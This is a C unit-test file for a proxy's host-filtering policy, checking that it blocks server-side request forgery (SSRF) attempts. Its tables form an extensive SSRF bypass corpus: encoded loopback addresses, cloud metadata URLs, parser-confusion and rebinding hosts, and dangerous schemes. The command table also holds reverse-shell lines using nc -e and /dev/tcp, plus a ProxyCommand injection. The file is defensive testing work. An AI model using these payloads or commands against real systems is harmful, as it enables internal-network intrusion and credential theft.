/*
 * Stage host: what a string names, in every spelling that SSRF cheat sheets
 * have, and what must pass.
 */
#include <stdio.h>
#include <string.h>
#include <time.h>

#include "policy/host.h"
#include "policy/policy.h"
#include "policy/text.h"
#include "proxy/base/array.h"
#include "proxy/base/error.h"
#include "proxy/base/xalloc.h"
#include "test/unit/unit.h"

#define HOSTS "arguments.hosts."

/* The rule's last word, or NULL, and never mind where the policy comes from. */
static const char *
judged(const char *hosts, enum text_role role, bool document, struct slice text)
{
	static struct verdict v;
	struct policy *p = NULL;
	struct error err = { "" };
	struct views vs;
	struct text t = { .views = &vs, .role = role, .document = document };
	struct text_env env = { 0 };
	enum action action;
	char *yaml = xasprintf("version: 1\narguments: {hosts: {%s}}\n", hosts);

	ck_assert_msg(policy_load_text("test", "test.yaml", yaml, strlen(yaml),
			  &p, &err) == 0,
	    "%s", err.msg);
	env.policy = p;
	v = (struct verdict){ .action = ACTION_ALLOW };
	views_init(&vs);
	views_make(&vs, text);
	action = text_check_host(&env, &t, &v);
	views_release(&vs);
	policy_free(p);
	free(yaml);
	if (action == ACTION_ALLOW)
		return NULL;
	ck_assert_int_eq(strncmp(v.rule, HOSTS, strlen(HOSTS)), 0);
	ck_assert(v.reason[0] != '\0');
	return v.rule + strlen(HOSTS);
}

static void
check(const char *hosts, enum text_role role, bool document, const char *text,
    const char *want)
{
	const char *got = judged(hosts, role, document, slice_of(text));

	/* "*": by whatever rule. */
	if (want != NULL && strcmp(want, "*") == 0)
		ck_assert_msg(got != NULL, "'%s' passes", text);
	else
		ck_assert_msg((got == NULL) == (want == NULL) &&
				  (got == NULL || strcmp(got, want) == 0),
		    "'%s': %s, not %s", text, got != NULL ? got : "passes",
		    want != NULL ? want : "passes");
}

/* URLs that lead inside.  Whole, as the value of "url"; the same as any other
   value where it is not one of the forms that only a URL's argument has. */
static const struct {
	const char *text, *rule;
	bool only_url;
} attacks[] = {
	/* clang-format off */
	{ "http://127.0.0.1", "private", false },
	{ "http://127.0.0.1:80/admin", "private", false },
	{ "https://localhost:443/", "private", false },
	{ "http://LOCALHOST", "private", false },
	{ "http://localhost./", "private", false },
	{ "http://foo.localhost/", "private", false },
	{ "http://localhost.localdomain", "private", false },
	{ "http://0.0.0.0:22", "private", false },
	{ "http://0/", "private", false },
	{ "http://127.1", "private", false },
	{ "http://127.0.1", "private", false },
	{ "http://127.127.127.127", "private", false },
	{ "http://2130706433/", "private", false },
	{ "http://017700000001", "private", false },
	{ "http://0x7f000001/", "private", false },
	{ "http://0x7f.0x0.0x0.0x1", "private", false },
	{ "http://0177.0.0.1/", "private", false },
	{ "http://o177.0.0.1/", "private", false },
	{ "http://00000177.0.0.1/", "private", false },
	{ "http://4294967296/", "private", false },
	{ "http://425.510.425.510/", "metadata", false },
	{ "http://[::]:80/", "private", false },
	{ "http://[0000::1]:80/", "private", false },
	{ "http://[::ffff:127.0.0.1]", "private", false },
	{ "http://[::ffff:7f00:1]", "private", false },
	{ "http://[0:0:0:0:0:ffff:127.0.0.1]", "private", false },
	{ "http://[64:ff9b::7f00:1]/", "private", false },
	{ "http://[fe80::1%25eth0]/", "private", false },
	{ "http://[fd00:ec2::254]/latest/meta-data/", "metadata", false },
	{ "http://::1:80/", "private", true },
	{ "http://10.0.0.1/", "private", false },
	{ "http://192.168.1.1:8080/x", "private", false },
	{ "http://172.16.0.1", "private", false },
	{ "http://169.254.169.254/latest/meta-data/", "metadata", false },
	{ "http://169.254.170.2/v2/credentials/", "metadata", false },
	{ "http://0xA9FEA9FE/", "metadata", false },
	{ "http://0251.0376.0251.0376", "metadata", false },
	{ "http://metadata.google.internal/computeMetadata/v1/", "metadata",
	    false },
	{ "http://METADATA.google.internal.", "metadata", false },
	{ "http://metadata/computeMetadata/v1/", "metadata", false },
	{ "http://metadata.goog/", "metadata", false },
	{ "http://instance-data/latest/", "metadata", false },
	{ "http://rancher-metadata/2015-12-19/", "metadata", false },
	{ "http://100.100.100.200/latest/", "metadata", false },
	{ "http://192.0.0.192/latest/", "metadata", false },
	{ "https://metadata.packet.net/userdata", "metadata", false },
	{ "http://metadata.tencentyun.com/latest/", "metadata", false },
	{ "https://kubernetes.default.svc/api", "metadata", false },
	{ "http://kubernetes.default.svc.cluster.local/", "metadata", false },
	{ "http://intranet/", "private", false },
	{ "http://printer.local/", "private", false },
	{ "http://db.internal:5432/", "private", false },
	{ "http://wiki.corp/", "private", false },
	{ "http://router.lan", "private", false },
	{ "http://nas.home.arpa/", "private", false },
	{ "http://localtest.me", "private", false },
	{ "http://a.b.localtest.me", "private", false },
	{ "http://lvh.me:3000", "private", false },
	{ "http://spoofed.burpcollaborator.net", "private", false },
	{ "http://spoofed.x1y2.oastify.com", "private", false },
	{ "http://bugbounty.dod.network", "private", false },
	{ "http://127.0.0.1.nip.io", "private", false },
	{ "http://app-127-0-0-1.nip.io/", "private", false },
	{ "http://7f000001.nip.io/", "private", false },
	{ "http://customer1.app.localhost.my.company.127.0.0.1.nip.io", "private",
	    false },
	{ "http://169.254.169.254.nip.io/", "metadata", false },
	{ "http://--1.sslip.io/", "private", false },
	{ "http://1ynrnhl.xip.io/", "private", false },
	{ "http://www.owasp.org.1ynrnhl.xip.io/", "private", false },
	{ "http://make-1.2.3.4-rebind-169.254-169.254-rr.1u.ms", "private",
	    false },
	{ "http://7f000001.c0a80001.rbndr.us/", "private", false },
	{ "http://192-168-1-1.example.com/", "private", false },
	/* Userinfo, and what parsers make of odd signs. */
	{ "http://127.1.1.1:80\\@127.2.2.2:80/", "private", false },
	{ "http://127.1.1.1:80:\\@@127.2.2.2:80/", "private", false },
	{ "http://127.1.1.1:80#\\@127.2.2.2:80/", "private", false },
	{ "http://good.example@127.0.0.1/", "private", false },
	{ "http://good.example:x@127.0.0.1/", "private", false },
	{ "http://127.0.0.1@good.example/", "private", false },
	{ "http://good.example\\@127.0.0.1/", "private", false },
	{ "http://127.0.0.1\\@good.example/", "private", false },
	{ "http://good.example#@127.0.0.1/", "private", false },
	{ "http://good.example?@127.0.0.1/", "private", false },
	{ "http://good.example;@127.0.0.1/", "private", false },
	{ "http://good.example%40127.0.0.1/", "private", false },
	{ "http://good.example &@127.0.0.1# @good.example/", "private", true },
	{ "http://good.example:80+&@127.88.23.245:22/#+@good.example:80/",
	    "private", false },
	{ "http://good.example:80+&@good.example:80#+@127.88.23.245:22/",
	    "private", false },
	{ "http://127.0.0.1:11211:80/", "private", false },
	{ "http://127.0.0.1%00.good.example/", "private", false },
	{ "http://127.0.0.1%09good.example/", "private", false },
	{ "http://127.0.0.1%2523.good.example/", "private", false },
	{ "0://evil.example:80;http://localhost:80/", "private", false },
	{ "://127.0.0.1/", "private", false },
	/* Slashes, white space, encodings. */
	{ "http:127.0.0.1/", "private", false },
	{ "http:/127.0.0.1/", "private", false },
	{ "http:///127.0.0.1/", "private", false },
	{ "http:\\\\127.0.0.1\\x", "private", false },
	{ "http:/\\127.0.0.1/", "private", false },
	{ "http:\\/\\/127.0.0.1\\/", "private", false },
	{ "//127.0.0.1/x", "private", false },
	{ "\\/\\/127.0.0.1/", "private", false },
	{ "///127.0.0.1", "private", false },
	{ " \thttp://127.0.0.1 ", "private", false },
	{ "ht\ttp://127.0.\n0.1/", "private", true },
	{ "http://127.0\r\n.0.1/", "private", false },
	{ "http://%31%32%37.0.0.1/", "private", false },
	{ "http://%6c%6f%63%61%6c%68%6f%73%74/", "private", false },
	{ "http://%256c%256f%2563%2561%256c%2568%256f%2573%2574/", "private",
	    false },
	{ "http://\xe2\x91\xa0\xe2\x91\xa1\xe2\x91\xa6.\xe2\x93\xaa."
	  "\xe2\x93\xaa.\xe2\x91\xa0", "private", false },
	{ "http://127\xe3\x80\x82" "0\xe3\x80\x82" "0\xe3\x80\x82" "1",
	    "private", false },
	{ "http://\xef\xbc\x91\xef\xbc\x92\xef\xbc\x97\xef\xbc\x8e" "0.0.1",
	    "private", false },
	{ "http://\xe2\x93\x9b\xe2\x93\x9e\xe2\x93\x92\xe2\x93\x90\xe2\x93\x9b"
	  "\xe2\x93\x97\xe2\x93\x9e\xe2\x93\xa2\xe2\x93\xa3/", "private",
	    false },
	{ "http://local\xc2\xadhost/", "private", false },
	{ "http://local\xe2\x80\x8bhost/", "private", false },
	/* A URL in a URL. */
	{ "https://307.r3dir.me/--to/?url=http://localhost", "private", false },
	{ "https://proxy.example/?u=http%3A%2F%2F169.254.169.254%2F", "metadata",
	    false },
	{ "http://nicob.example/redir-http-169.254.169.254:80-", "metadata",
	    true },
	{ "url:http://127.0.0.1/", "private", false },
	{ "feed:http://127.0.0.1/", "private", false },
	/* Other schemes. */
	{ "gopher://127.0.0.1:6379/_save", "scheme", false },
	{ "gopher://[host]:[port]/[type][selector]", "scheme", false },
	{ "GOPHER://x.example/", "scheme", false },
	{ "dict://", "scheme", true },
	{ "dict://attacker:11111/", "scheme", false },
	{ "ldap://localhost:11211/%0astats%0aquit", "scheme", false },
	{ "sftp://evil.example:11111/", "scheme", false },
	{ "tftp://evil.example:12346/TESTUDPPACKET", "scheme", false },
	{ "netdoc:///etc/passwd", "scheme", true },
	{ "jar:http://127.0.0.1!/", "*", false },
	{ "jar:scheme://domain/path!/", "scheme", true },
	{ "jar:file:///etc/passwd!/", "scheme", true },
	{ "php://filter/convert.base64-encode/resource=x", "scheme", false },
	{ "phar://x.phar", "scheme", false },
	{ "expect://id", "scheme", false },
	{ "view-source:https://x.example/", "scheme", true },
	{ "javascript:alert(1)", "scheme", true },
	{ "java\nscript:alert(1)", "scheme", true },
	{ "data:text/html;base64,PHNjcmlwdD4=", "scheme", true },
	{ "redis://127.0.0.1:6379/0", "private", false },
	{ "postgres://u:p@localhost:5432/db", "private", false },
	{ "ssh://git@10.0.0.5/x.git", "private", false },
	{ "memo://127.0.0.1/x", "private", false },
	{ "file://10.0.0.1/share/x", "private", false },
	{ "https://r.example/?u=//127.0.0.1", "private", false },
	{ "https://r.example/?a=b&url=2852039166", "metadata", false },
	{ "https://r.example/?next=localhost:8080", "private", false },
	{ "https://r.example/?u=%2F%2F127.0.0.1", "private", false },
	{ "http://{127.0.0.1}/", "private", false },
	{ "http://{127.0.0.1,x.example}/", "private", false },
	{ "http://{127,128}.0.0.1/", "private", false },
	{ "http://lo{cal}host/", "private", false },
	{ "http://localhost.me/", "private", false },
	{ "npipe:////./pipe/docker_engine", "scheme", false },
	{ "ssh://-oProxyCommand=id/x", "spelling", false },
	{ "git+ssh://git@-oProxyCommand=id/x", "spelling", false },
	{ "postgresql+psycopg2://u:p@localhost/db", "private", false },
	{ "neo4j://localhost:7687", "private", false },
	/* Public hosts that are spelt as nobody spells them. */
	{ "http://0x08080808/", "spelling", false },
	{ "http://134744072/", "spelling", false },
	{ "http://8.8.2056/", "spelling", false },
	{ "http://[::ffff:8.8.8.8]/", "spelling", false },
	{ "http://good.example\\@evil.example/", "spelling", false },
	{ "http://good.example#@evil.example/", "spelling", false },
	{ "http://good.example;@evil.example/", "spelling", false },
	{ "http://%65vil.example/", "spelling", false },
	{ "http://\xe2\x93\x94\xe2\x93\xa5\xe2\x93\x98\xe2\x93\x9b.example",
	    "spelling", false },
	{ "http://ev\til.example/", "spelling", true },
	/* clang-format on */
};

START_TEST(refuses_in_a_url)
{
	check("", ROLE_HOST, false, attacks[_i].text, attacks[_i].rule);
}
END_TEST

START_TEST(refuses_in_a_value)
{
	if (!attacks[_i].only_url)
		check("", ROLE_VALUE, false, attacks[_i].text, "*");
}
END_TEST

#define V ROLE_VALUE
#define H ROLE_HOST
#define P ROLE_PROSE
#define C ROLE_CODE

static const struct {
	enum text_role role;
	const char *text, *rule;
} texts[] = {
	/* clang-format off */
	/* Under the names of a connection string, or of a query. */
	{ V, "host=127.0.0.1 dbname=x", "private" },
	{ V, "Server=localhost;", "private" },
	{ V, "Data Source=tcp:10.0.0.5,1433;User Id=sa;Password=x",
	    "private" },
	{ V, "user:pw@tcp(127.0.0.1:3306)/db", "private" },
	{ V, "dbname=x host='127.0.0.1'", "private" },
	{ V, "host=db.example.com dbname=x", NULL },
	{ V, "Server=db.example.com;Database=x;User Id=sa", NULL },
	{ V, "index=main host=10.0.0.5 status=500", NULL },
	{ V, "host=a; port=b", NULL },
	{ H, "https://x.example/?page=0&u=1&next=10.5", NULL },
	{ H, "https://x.example/?next=/home&url=y.example", NULL },
	{ H, "https://{host}/api/{id}", NULL },
	{ H, "screen://localhost/display1", NULL },
	{ H, "memo://metadata", NULL },
	{ H, "ssh://git@x.example/a-b.git", NULL },
	/* Bare hosts, where they are asked for. */
	{ H, "localhost", "private" },
	{ H, "localhost:8080", "private" },
	{ H, "localhost/admin", "private" },
	{ H, "127.0.0.1", "private" },
	{ H, "127.0.0.1:80", "private" },
	{ H, "127.1", "private" },
	{ H, "2130706433", "private" },
	{ H, "0x7f000001", "private" },
	{ H, "0177.0.0.1", "private" },
	{ H, "0", "private" },
	{ H, "::1", "private" },
	{ H, "[::1]:80", "private" },
	{ H, "fe80::1%eth0", "private" },
	{ H, "metadata.google.internal", "metadata" },
	{ H, "instance-data", "metadata" },
	{ H, "good.example@127.0.0.1", "private" },
	{ H, "127.0.0.1.nip.io", "private" },
	{ H, "2852039166", "metadata" },
	{ H, "metadata", NULL }, /* a word */
	{ H, "origin", NULL },
	{ H, "10", NULL },
	{ H, "10.5", NULL },
	{ H, "1.2.3", NULL },
	{ H, "4155552671", NULL },
	{ H, "1234567890123456789", NULL },
	{ H, "12 Main Street, Springfield", NULL },
	{ H, "0x742d35Cc6634C0532925a3b844Bc454e4438f44e", NULL },
	{ H, "#main > div.local", NULL },
	{ H, "user@example.com", NULL },
	{ H, "/api/v1/items", NULL },
	{ H, "images/logo.png", NULL },
	{ H, "", NULL },
	{ H, "example.com", NULL },
	{ H, "example.com:8080", NULL },
	{ H, "8.8.8.8", NULL },
	{ H, "2606:4700:4700::1111", NULL },
	/* URLs that lead out. */
	{ H, "https://example.com/", NULL },
	{ H, "http://example.com:8080/a?b=c#d", NULL },
	{ H, "https://user:secret@example.com/x", NULL },
	{ H, "https://example.com?email=a@b.example", NULL },
	{ H, "https://example.com/@scope/pkg@1.0.0", NULL },
	{ H, "https://medium.com/@user/post-127-0", NULL },
	{ H, "https://example.com/a/10.0.0.1/b", NULL },
	{ H, "https://docs.example.com/1.2.3.4/", NULL },
	{ H, "https://xn--mnchen-3ya.de/", NULL },
	{ H, "https://m\xc3\xbcnchen.de/", NULL },
	{ H, "https://\xd0\xbf\xd1\x80\xd0\xb8\xd0\xbc\xd0\xb5\xd1\x80."
	     "\xd1\x80\xd1\x84/", NULL },
	{ H, "https://\xe4\xbe\x8b\xe3\x81\x88.jp/", NULL },
	{ H, "https://localhost.example.com/", NULL },
	{ H, "https://mylocal.dev/", NULL },
	{ H, "https://internal.example.com/", NULL },
	{ H, "https://8.8.8.8/", NULL },
	{ H, "https://[2606:4700:4700::1111]/", NULL },
	{ H, "https://8-8-8-8.nip.io/", NULL },
	{ H, "https://release-1-2-3-4.example.app/", NULL },
	{ H, "https://v0-1-2-3.example.app/", NULL },
	{ H, "https://abc123.ngrok.io", NULL },
	{ H, "https://a.example\nhttps://b.example", NULL },
	{ H, "https://a.example https://b.example", NULL },
	{ H, "https://www.google.com/search?q=%22localhost%22", NULL },
	{ H, "ftp://ftp.example.org/pub/x", NULL },
	{ H, "git@github.com:user/repo.git", NULL },
	{ H, "ssh://git@github.com/user/repo.git", NULL },
	{ H, "git+https://github.com/user/repo", NULL },
	{ H, "mailto:someone@example.com", NULL },
	{ H, "mailto:root@localhost", NULL },
	{ H, "data:image/png;base64,iVBORw0KGgo=", NULL },
	{ H, "data:text/plain,hello", NULL },
	{ H, "urn:isbn:0451450523", NULL },
	{ H, "about:blank", NULL },
	{ H, "file:///home/user/x.txt", NULL },
	{ H, "file://localhost/home/user/x.txt", NULL },
	{ H, "demo://resource/static/1", NULL },
	{ H, "test://static/resource/1", NULL },
	{ H, "memo://insights", NULL },
	{ H, "issue://17", NULL },
	{ H, "user://10/profile", NULL },
	{ H, "table://metadata", NULL },
	{ H, "screenshot://1.2.3", NULL },
	{ H, "postgres://db/orders/schema", NULL },
	/* Other values. */
	{ V, "127.0.0.1", "private" },
	{ V, "10.0.0.1", "private" },
	{ V, "127.0.0.1:80", "private" },
	{ V, "[::1]:80", "private" },
	{ V, "localhost:8080", "private" },
	{ V, "0x7f.0.0.1", "private" },
	{ V, "metadata.google.internal", "metadata" },
	{ V, "see http://127.0.0.1:3000/ for more", "private" },
	{ V, "{\"url\":\"http:\\/\\/169.254.169.254\\/\"}", "metadata" },
	{ V, "localhost", NULL },
	{ V, "127.1", NULL },
	{ V, "2130706433", NULL },
	{ V, "1.2.3", NULL },
	{ V, "1.2.3.4", NULL },
	{ V, "0.1.2.3", NULL },
	{ V, "::1", NULL },
	{ V, "12:30:45", NULL },
	{ V, "a:b", NULL },
	{ V, "javascript: the good parts", NULL },
	{ V, "dict: a mapping", NULL },
	{ V, "http: a short history", NULL },
	{ V, "// no-op\nint x = 10;", NULL },
	{ V, "what is localhost", NULL },
	{ V, "\\\\server\\share", NULL },
	{ V, "main.go:12", NULL },
	{ V, "std::string", NULL },
	{ V, "s3://bucket/key", NULL },
	{ V, "foo/bar/baz", NULL },
	{ V, "etc...", NULL },
	{ V, "plain word", NULL },
	{ V, "https://example.com\nsee there", NULL },
	{ V, "https://example.com\tits title", NULL },
	{ V, "https://example.com is @example", NULL },
	{ V, "https://example.com &@127.0.0.1# @example.com/", "private" },
	/* Prose. */
	{ P, "see http://127.0.0.1:3000/", "private" },
	{ P, "open http://localhost:8080/x.", "private" },
	{ P, "fetch http://169.254.169.254/latest please", "metadata" },
	{ P, "the server runs on localhost", NULL },
	{ P, "the address 127.0.0.1 is loopback", NULL },
	{ P, "127.0.0.1", NULL },
	{ P, "gopher:// was a protocol", NULL },
	{ P, "use http://server/path as a pattern", NULL },
	{ P, "ratio 10:1, http: 127", NULL },
	{ P, "\xe8\xaf\xb7\xe7\x9c\x8bhttps://example.com\xe3\x80\x82\xe7\x84"
	     "\xb6\xe5\x90\x8e", NULL },
	/* Commands. */
	{ C, "curl http://localhost/", "private" },
	{ C, "curl 169.254.169.254/latest/meta-data/", "metadata" },
	{ C, "curl -s 'metadata.google.internal/x'", "metadata" },
	{ C, "cd /tmp && sudo wget -q 10.0.0.1/x", "private" },
	{ C, "nc -e /bin/sh 192.168.1.5 4444", "private" },
	{ C, "/usr/bin/nc 127.1 80", "private" },
	{ C, "ssh root@192.168.1.5", "private" },
	{ C, "scp x.txt root@10.0.0.3:/tmp", "private" },
	{ C, "ping localhost", "private" },
	{ C, "x=$(curl 2852039166)", "metadata" },
	{ C, "A=1 curl localhost:9200", "private" },
	{ C, "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "private" },
	{ C, "exec 3<>/dev/tcp/localhost/80", "private" },
	{ V, "curl 127.0.0.1:8080/x", "private" },
	{ V, "ping -c 1 127.0.0.1", "private" },
	{ C, "ping -c 4 example.com", NULL },
	{ C, "nc -l 4444", NULL },
	{ C, "ufw allow from 192.168.1.12", NULL },
	{ C, "print('localhost')", NULL },
	{ C, "app.run(host='0.0.0.0', port=5000)", NULL },
	{ C, "curl -o localhost.txt https://example.com/localhost", NULL },
	{ C, "scp x.txt user@example.com:", NULL },
	{ C, "pip install requests==2.31.0", NULL },
	{ V, "curl is a tool", NULL },
	{ P, "curl 127.0.0.1", NULL },
	/* clang-format on */
};

START_TEST(judges_by_role)
{
	check("", texts[_i].role, false, texts[_i].text, texts[_i].rule);
}
END_TEST

static const struct {
	const char *hosts;
	enum text_role role;
	bool document;
	const char *text, *rule;
} policies[] = {
	/* clang-format off */
	{ "", P, true, "# Run\nopen http://localhost:3000/", NULL },
	{ "", P, true, "# Run\nopen http://10.0.0.1/ gopher://x/", NULL },
	{ "", P, true, "# Run\ncurl http://169.254.169.254/x", "metadata" },
	{ "deny: [evil.example]", P, true, "a\nhttp://evil.example/", "deny" },
	{ "deny: [\"*.example\"]", H, false, "http://a.example/", "deny" },
	{ "deny: [\"*.example\"]", H, false, "http://A.EXAMPLE./", "deny" },
	{ "deny: [\"*.example\"]", H, false, "http://a.example@b.com/", "deny" },
	{ "deny: [\"*.example\"]", H, false, "a.example:80", "deny" },
	{ "deny: [\"*.example\"]", V, false, "a.example", "deny" },
	{ "deny: [\"*.example\"]", H, false, "http://b.com/a.example", NULL },
	{ "deny: [8.8.0.0/16]", H, false, "http://0x08080808/", "deny" },
	{ "deny: [8.8.0.0/16]", H, false, "http://8.9.8.8/", NULL },
	{ "deny: [8.8.8.8]", H, false, "http://[::ffff:808:808]/", "deny" },
	{ "allow: [localhost]", H, false, "http://localhost:3000/", NULL },
	{ "allow: [localhost]", H, false, "http://127.0.0.1:3000/", "private" },
	{ "allow: [localhost]", H, false, "http://example.com/", "allow" },
	{ "allow: [\"*\"]", H, false, "http://localhost/", "private" },
	{ "allow: [\"*.corp\"]", H, false, "http://wiki.corp/", "private" },
	{ "allow: [wiki.corp]", H, false, "http://wiki.corp/", NULL },
	{ "allow: [10.0.0.0/8]", H, false, "http://10.1.2.3/", NULL },
	{ "allow: [10.0.0.0/8]", H, false, "http://11.1.2.3/", "allow" },
	{ "allow: [10.0.0.0/8]", H, false, "http://012.1.2.3/", "*" },
	{ "allow: [10.0.0.0/8]", H, false, "http://10.0.0.1@127.0.0.1/",
	    "private" },
	{ "allow: [169.254.169.254]", H, false, "http://169.254.169.254/", NULL },
	{ "allow: [\"*.example\"]", H, false, "https://a.example/x", NULL },
	{ "allow: [\"*.example\"]", H, false, "https://u:p@a.example/x", NULL },
	{ "allow: [\"*.example\"]", H, false, "https://a.example.com/", "allow" },
	{ "allow: [\"*.example\"]", H, false, "https://b.com\\@a.example/",
	    "allow" },
	{ "allow: [\"*.example\"]", H, false, "https://a.example\\@b.com/",
	    "allow" },
	{ "allow: [\"*.example\"]", H, false, "https://b.com#@a.example/",
	    "allow" },
	{ "allow: [\"*.example\"]", H, false, "https://a.example@b.com/",
	    "allow" },
	{ "allow: [\"*.example\"]", H, false, "b.com", "allow" },
	{ "allow: [\"*.example\"]", H, false, "memo://insights", NULL },
	{ "allow: [\"*.example\"]", H, false, "file:///x", NULL },
	{ "allow: [\"*.example\"]", V, false, "v1.2", NULL },
	{ "allow: [\"*.example\"]", V, false, "https://b.com/", "allow" },
	{ "allow: [\"*.example\"]", P, false, "see https://b.com/", NULL },
	{ "allow: [\"*.example\"]", C, false, "curl https://b.com/", "allow" },
	{ "allow: [a.example], deny: [a.example]", H, false, "http://a.example/",
	    "deny" },
	{ "private: allow", H, false, "http://127.0.0.1/", NULL },
	{ "private: allow", H, false, "http://169.254.169.254/", "metadata" },
	{ "metadata: allow", H, false, "http://169.254.169.254/", NULL },
	{ "metadata: allow", H, false, "http://127.0.0.1/", "private" },
	{ "private: allow, metadata: allow", H, false, "http://0x7f.1/", NULL },
	{ "private: allow, metadata: allow", H, false, "gopher://x/", "scheme" },
	/* clang-format on */
};

START_TEST(keeps_the_policy)
{
	check(policies[_i].hosts, policies[_i].role, policies[_i].document,
	    policies[_i].text, policies[_i].rule);
}
END_TEST

/* The worst texts that we can think of. */
static const char *const floods[] = { "a://", "a:\\\\", "http:", ":", "://",
	"http://a@", "@", "%25", "http://[", "127.", "/\\", "http:\\",
	"1.1.1.1 ", "\xe2\x91\xa0", "curl ", "[::", "http://\xe2\x91\xa0.",
	"a.b-", "\\", "http://a?", "(", "/dev/tcp/", "0" };

/* Processor time of one judgement of len bytes. */
static double
seconds(const char *flood, enum text_role role, size_t len)
{
	char *text = xmalloc(len);
	clock_t start;

	for (size_t i = 0, n = strlen(flood); i < len; i++)
		text[i] = flood[i % n];
	memcpy(text, "http://", 7); /* one whole URL, as far as it goes */
	start = clock();
	(void)judged("", role, false, (struct slice){ text, len });
	start = clock() - start;
	free(text);
	return (double)start / CLOCKS_PER_SEC;
}

/* Eight times the text may take eight times as long, and not 64 times. */
START_TEST(stays_linear)
{
	static const enum text_role roles[] = { H, V, P, C };

	for (size_t i = 0; i < nitems(roles); i++) {
		double little = seconds(floods[_i], roles[i], 1U << 15);
		double much = seconds(floods[_i], roles[i], 1U << 18);

		little = little < 0.02 ? 0.02 : little;
		ck_assert_msg(much < 24 * little, "'%s' as role %d: %f s, %f s",
		    floods[_i], (int)roles[i], little, much);
	}
}
END_TEST

/* What is padded with much stays what it is. */
START_TEST(sees_through_padding)
{
	static const char *const forms[] = { "http://%s@127.0.0.1/",
		"http://a%s\\@127.0.0.1/", "http://%s.nip.io@127.0.0.1/",
		"http://127.0.0.1/%s", "http://127.0.0.1?%s",
		"%s http://127.0.0.1/", "http://0%s0177.0.0.1/" };
	char pad[6000], text[7000];

	memset(pad, '0', sizeof(pad));
	for (size_t len = 100; len < sizeof(pad); len += 1900) {
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral"
		(void)snprintf(text, sizeof(text), forms[_i], "");
		check("", ROLE_VALUE, false, text, "private");
		pad[len] = '\0';
		(void)snprintf(text, sizeof(text), forms[_i], pad);
		pad[len] = '0';
#pragma GCC diagnostic pop
		check("", ROLE_VALUE, false, text, "*");
		check("", ROLE_HOST, false, text, "*");
	}
}
END_TEST

int
main(void)
{
	TCase *tc = tcase_create("check_host");

	tcase_set_timeout(tc, 120);
	tcase_add_loop_test(tc, refuses_in_a_url, 0, (int)nitems(attacks));
	tcase_add_loop_test(tc, refuses_in_a_value, 0, (int)nitems(attacks));
	tcase_add_loop_test(tc, judges_by_role, 0, (int)nitems(texts));
	tcase_add_loop_test(tc, keeps_the_policy, 0, (int)nitems(policies));
	tcase_add_loop_test(tc, stays_linear, 0, (int)nitems(floods));
	tcase_add_loop_test(tc, sees_through_padding, 0, 7);
	return unit_run(tc, "check_host");
}
